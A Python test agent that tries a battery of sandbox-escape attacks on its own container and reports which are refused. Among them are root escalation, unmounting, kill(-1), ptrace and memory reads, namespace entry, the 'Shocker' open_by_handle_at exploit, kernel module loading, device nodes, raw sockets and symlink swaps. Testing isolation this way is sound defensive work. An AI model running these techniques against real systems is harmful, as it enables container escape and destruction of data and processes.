"""An agent that attacks the sandbox it runs in: the payload's "attack" names what to try.

Each attack returns what happened, never raises: {"errno": "EPERM"} for a refused system call,
{"error": "PermissionError"} for a refused Python call, or what the attack got hold of. Raw
system call numbers come in the payload (the test knows this machine's table).
"""

import asyncio
import ctypes
import errno
import mmap
import multiprocessing
import os
import pwd
import signal
import socket
import ssl
import stat
import struct
import subprocess
import sys
import threading
from pathlib import Path

from bedrock_agentcore import BedrockAgentCoreApp

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
app = BedrockAgentCoreApp()
ATTACKS = {}

MNT_DETACH = 2
MS_BIND = 4096
MS_REMOUNT = 32
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def checked(result):
    if result < 0:
        return {"errno": errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))}
    return {"result": result}


def raw(number, *args):
    ctypes.set_errno(0)
    converted = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    return checked(libc.syscall(ctypes.c_long(number), *converted))


def libc_call(name, *args):
    ctypes.set_errno(0)
    return checked(getattr(libc, name)(*args))


def python_call(function, *args):
    try:
        result = function(*args)
    except OSError as error:
        return {"error": type(error).__name__, "errno": errno.errorcode.get(error.errno or 0)}
    if isinstance(result, bytes):
        return {"result": result.decode(errors="replace")[:300]}
    return {"result": result if isinstance(result, (list, str, int, type(None))) else repr(result)[:300]}


def unhide(path):
    """What an attacker does first: take away whatever mount hides the path or its parents."""
    for candidate in [Path(path), *Path(path).parents]:
        libc.umount2(str(candidate).encode(), MNT_DETACH)


def status_of(path):
    lines = Path(path).read_text().splitlines()
    return dict(line.split(":\t", 1) for line in lines if ":\t" in line)


@attack
def status(payload):
    return status_of("/proc/self/status")


@attack
def become_root(payload):
    tried = {"setuid": python_call(os.setuid, 0), "setgid": python_call(os.setgid, 0)}
    return {**tried, "uids": os.getresuid(), "gids": os.getresgid()}


@attack
def read_files(payload):
    found = {}
    for path in payload["paths"]:
        unhide(path)
        found[path] = python_call(Path(path).read_bytes)
    return found


@attack
def write_files(payload):
    for path, text in payload["files"].items():
        Path(path).write_text(text)
    return {"written": sorted(payload["files"])}


@attack
def unmount(payload):
    return {path: libc_call("umount2", path.encode(), MNT_DETACH) for path in payload["paths"]}


@attack
def held_files(payload):
    """Every file descriptor it holds: what it is, and whether it can be written."""
    held = {}
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue  # listdir's own, closed by now
        writable = target.startswith("pipe:") and "error" not in python_call(os.write, fd, b"")
        held[name] = {"target": target, "writable pipe": writable}
    return held


@attack
def list_dirs(payload):
    return {path: python_call(lambda p: sorted(os.listdir(p)), path) for path in payload["paths"]}


@attack
def mounts(payload):
    scratch = Path("/tmp/scratch")
    scratch.mkdir(exist_ok=True)
    return {
        "umount /usr": libc_call("umount2", b"/usr", 0),
        "umount code": libc_call("umount2", payload["code_dir"].encode(), MNT_DETACH),
        "umount /": libc_call("umount2", b"/", MNT_DETACH),
        "mount tmpfs": libc_call("mount", b"none", bytes(scratch), b"tmpfs", 0, None),
        "mount proc": libc_call("mount", b"proc", bytes(scratch), b"proc", 0, None),
        "bind mount": libc_call("mount", b"/usr", bytes(scratch), None, MS_BIND, None),
    }


@attack
def change_code(payload):
    code = Path(payload["code_dir"])
    remount = libc_call("mount", None, bytes(code), None, MS_REMOUNT | MS_BIND, None)
    return {
        "remount": remount,
        "overwrite": python_call((code / payload["entrypoint"]).write_text, "app = None\n"),
        "add": python_call((code / "planted.py").write_text, "x = 1\n"),
        "chmod": python_call(os.chmod, code, 0o777),
    }


@attack
def reach_neighbour(payload):
    found = {}
    for path in payload["paths"]:
        unhide(path)
        found[path] = python_call(Path(path).read_bytes)
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    found["socket"] = python_call(client.connect, payload["socket"])
    client.close()
    found["work_root"] = python_call(lambda p: sorted(os.listdir(p)), payload["work_root"])
    return found


@attack
def processes(payload):
    seen = {}
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            seen[name] = Path(f"/proc/{name}/cmdline").read_bytes().split(b"\0")[0].decode()
        except OSError:
            seen[name] = "?"
    return {"seen": seen, "kill host pid": python_call(os.kill, payload["pid"], signal.SIGKILL)}


@attack
def kill_everyone(payload):
    os.kill(-1, signal.SIGKILL)
    return {"survived": True}


@attack
def trace(payload):
    child = subprocess.Popen(["sleep", "60"])
    try:
        local = ctypes.create_string_buffer(16)
        local_iov = (ctypes.c_void_p * 2)(ctypes.cast(local, ctypes.c_void_p), 16)
        remote_iov = (ctypes.c_void_p * 2)(0x400000, 16)
        memory = {}
        for name in filter(str.isdigit, os.listdir("/proc")):
            if int(name) not in (os.getpid(), child.pid):
                memory[name] = python_call(lambda n: open(f"/proc/{n}/mem", "r+b").close(), name)
        return {
            "ptrace attach": libc_call("ptrace", 16, child.pid, None, None),  # PTRACE_ATTACH
            "ptrace seize": libc_call("ptrace", 0x4206, child.pid, None, None),  # PTRACE_SEIZE
            "process_vm_readv": libc_call("process_vm_readv", child.pid, local_iov, 1, remote_iov, 1, 0),
            "other processes' memory": memory,
        }
    finally:
        child.kill()
        child.wait()


@attack
def new_user_namespace(payload):
    unshared = raw(payload["numbers"]["unshare"], CLONE_NEWUSER | CLONE_NEWNS)
    scratch = Path("/tmp/userns-scratch")
    scratch.mkdir(exist_ok=True)
    mounted = libc_call("mount", b"none", bytes(scratch), b"tmpfs", 0, None)
    tool = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "true"], capture_output=True)
    return {"unshare": unshared, "mount after": mounted, "unshare tool exit": tool.returncode}


@attack
def enter_namespaces(payload):
    entered = {}
    for pid in ("1", "self"):
        for name in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            except OSError as error:
                entered[f"{pid}/{name}"] = {"error": type(error).__name__}
                continue
            entered[f"{pid}/{name}"] = libc_call("setns", fd, 0)
            os.close(fd)
    return entered


@attack
def open_by_handle(payload):
    # "Shocker": a hand-made handle for inode 2, the root directory of the filesystem /usr is on.
    handle = struct.pack("<Ii", 8, 1) + struct.pack("<II", 2, 0)
    mount_fd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
    opened = raw(payload["numbers"]["open_by_handle_at"], mount_fd, ctypes.c_char_p(handle), os.O_RDONLY)
    if "result" in opened:
        opened["listing"] = sorted(os.listdir(f"/proc/self/fd/{opened['result']}"))
    return opened


@attack
def keyring(payload):
    key_spec_session_keyring = -3
    return raw(payload["numbers"]["keyctl"], 0, key_spec_session_keyring, 1)  # KEYCTL_GET_KEYRING_ID


@attack
def bpf(payload):
    attributes = (ctypes.c_uint32 * 32)(2, 4, 4, 1)  # BPF_MAP_TYPE_ARRAY, key 4, value 4, 1 entry
    return raw(payload["numbers"]["bpf"], 0, ctypes.byref(attributes), ctypes.sizeof(attributes))


@attack
def load_module(payload):
    image = ctypes.create_string_buffer(64)
    return libc_call("init_module", image, 64, b"")


@attack
def reboot(payload):
    # Wrong magic numbers: refused before anything happens, whatever the capabilities.
    return raw(payload["numbers"]["reboot"], 0xDEAD, 0, 0, 0)


@attack
def chroot(payload):
    return python_call(os.chroot, "/tmp")


@attack
def device_node(payload):
    home = Path(os.environ["HOME"])
    return {
        "char device": python_call(os.mknod, home / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3)),
        "block device": python_call(os.mknod, home / "disk", stat.S_IFBLK | 0o600, os.makedev(254, 0)),
        "fifo": python_call(os.mkfifo, home / "fifo"),
    }


@attack
def io_uring(payload):
    parameters = (ctypes.c_uint8 * 120)()
    return raw(payload["numbers"]["io_uring_setup"], 4, ctypes.byref(parameters))


def _i386_getpid(result):
    # mov eax, 20 (getpid on i386); int 0x80; ret -- run in a child: without IA-32 emulation it faults.
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result.value = ctypes.CFUNCTYPE(ctypes.c_int)(address)()


@attack
def foreign_abi(payload):
    x32_getpid = raw(0x40000000 | payload["numbers"]["getpid"])
    # A fresh interpreter (spawn): a fork of this threaded server may deadlock before it gets there.
    context = multiprocessing.get_context("spawn")
    result = context.Value("i", 0)
    child = context.Process(target=_i386_getpid, args=(result,))
    child.start()
    child.join(10)
    i386 = {"returned": result.value} if child.exitcode == 0 else {"crashed": child.exitcode}
    return {"x32 getpid": x32_getpid, "i386 getpid": i386}


@attack
def raw_socket(payload):
    return {
        "icmp": python_call(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "packet": python_call(socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 0),
    }


@attack
def connect(payload):
    reached = python_call(lambda: socket.create_connection(("127.0.0.1", payload["port"]), timeout=5).close())
    return {"connect": reached, "interfaces": [name for _, name in socket.if_nameindex()]}


def _double(value):
    return value * 2


@attack
def everyday_work(payload):
    done = {"clone3": raw(payload["numbers"]["clone3"], 0, 0)}
    box = []
    thread = threading.Thread(target=box.append, args=("thread",))
    thread.start()
    thread.join()
    done["thread"] = box
    done["subprocess"] = subprocess.run(["echo", "subprocess"], capture_output=True, text=True).stdout.strip()
    done["posix_spawn"] = os.waitstatus_to_exitcode(
        os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)[1]
    )
    child = os.fork()
    if child == 0:
        os._exit(7)  # only async-signal-safe calls in a fork of a threaded process
    done["fork"] = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    for method in ("spawn", "forkserver"):
        with multiprocessing.get_context(method).Pool(2) as pool:
            done[method] = pool.map(_double, [1, 2])
    lock = multiprocessing.get_context("spawn").Lock()
    with lock:
        done["semaphore"] = True

    async def shell():
        process = await asyncio.create_subprocess_exec("echo", "asyncio", stdout=asyncio.subprocess.PIPE)
        return (await process.communicate())[0].decode().strip()

    done["asyncio"] = asyncio.run(shell())
    return done


@attack
def home_and_tmp(payload):
    home, tmpdir = Path(os.environ["HOME"]), Path(os.environ["TMPDIR"])
    (home / "notes.txt").write_text("mine")
    (tmpdir / "tmpdir-scratch").write_bytes(b"x" * 1024)
    Path("/tmp/shared-tmp").write_text("private /tmp")
    context = ssl.create_default_context()
    return {
        "home": (home / "notes.txt").read_text(),
        "tmpdir": (tmpdir / "tmpdir-scratch").stat().st_size,
        "tmp": Path("/tmp/shared-tmp").read_text(),
        "user": pwd.getpwuid(os.getuid()).pw_name,
        "ca certificates": context.cert_store_stats()["x509_ca"],
        "localhost": sorted({info[4][0] for info in socket.getaddrinfo("localhost", 80, socket.AF_INET)}),
        "python": sys.version_info[:2],
    }


@attack
def swap_log(payload):
    work = Path(payload["work_dir"])
    link = work / "worker.log.new"
    return {
        "see work dir": python_call(lambda: sorted(os.listdir(work))),
        "link": python_call(os.symlink, payload["target"], link),
        "replace log": python_call(os.replace, link, work / "worker.log"),
        "replace socket": python_call(os.replace, link, work / "worker.sock"),
    }


@app.entrypoint
def invoke(payload):
    return ATTACKS[payload["attack"]](payload)
